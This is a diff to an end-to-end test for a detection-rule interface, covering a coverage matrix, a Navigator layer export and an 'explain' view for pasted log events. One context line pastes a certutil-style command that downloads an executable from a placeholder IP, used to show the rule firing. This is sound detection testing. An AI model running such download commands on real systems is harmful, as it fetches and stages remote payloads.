@@ -63,7 +63,9 @@ test("the matrix shows what rules cover, what has fired, and what is missing", L
   await page.goto("/rules/coverage?source=windows");
   const waiting = page.waitForEvent("download");
   await page.getByRole("link", { name: "Navigator layer" }).click();
-  const layer = JSON.parse(await readFile(await (await waiting).path(), "utf8"));
+  const saved = join(world.folder, "layer.json");
+  await (await waiting).saveAs(saved);
+  const layer = JSON.parse(await readFile(saved, "utf8"));
   assert.equal(layer.versions.layer, "4.5");
   assert.ok(layer.techniques.some((one) => one.score > 0));
 });
@@ -78,13 +80,13 @@ test("a cell leads to its rules, and a rule explains an event that is pasted", L
   }));
   await page.getByLabel(/Take it for/).check();
   await page.getByRole("button", { name: "Explain" }).click();
-  await page.getByText("The rule does not fire").waitFor();
+  await page.getByText("The rule does not fire", { exact: true }).waitFor();
   await page.locator(".explain-tree li[data-holds=false]").first().waitFor();
   await holds("explain-silent");
   const field = page.getByLabel("A record as its log has it");
   await field.fill((await field.inputValue()).replace("-hashfile a.exe", "-urlcache -split -f http://203.0.113.9/a.exe a.exe"));
   await page.getByRole("button", { name: "Explain" }).click();
-  await page.getByText("The rule fires").waitFor();
+  await page.getByText("The rule fires", { exact: true }).waitFor();
   await holds("explain-fires");
   await field.fill("{");
   await page.getByRole("button", { name: "Explain" }).click();
